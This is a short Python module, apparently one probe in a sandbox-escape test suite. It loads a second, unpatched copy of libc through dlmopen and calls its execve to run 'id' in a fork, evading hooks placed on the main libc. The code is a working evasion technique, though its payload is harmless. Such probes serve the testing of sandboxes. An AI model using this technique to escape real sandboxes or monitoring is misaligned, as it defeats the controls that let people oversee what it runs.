"""A second libc in a namespace of its own, which nobody has patched."""

import ctypes
import shutil

from ctypes_execve import in_a_fork


def attack(event):
    us = ctypes.CDLL(None)
    us.dlmopen.restype = us.dlsym.restype = ctypes.c_void_p
    handle = us.dlmopen(ctypes.c_long(-1), b"libc.so.6", 2)
    if not handle:
        return "no second libc"
    kind = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p, ctypes.c_void_p, ctypes.c_void_p)
    execve = kind(us.dlsym(ctypes.c_void_p(handle), b"execve"))
    words = (ctypes.c_char_p * 2)(b"id", None)
    nothing = (ctypes.c_char_p * 1)(None)
    return in_a_fork(event, lambda: execve(shutil.which("id").encode(), words, nothing))
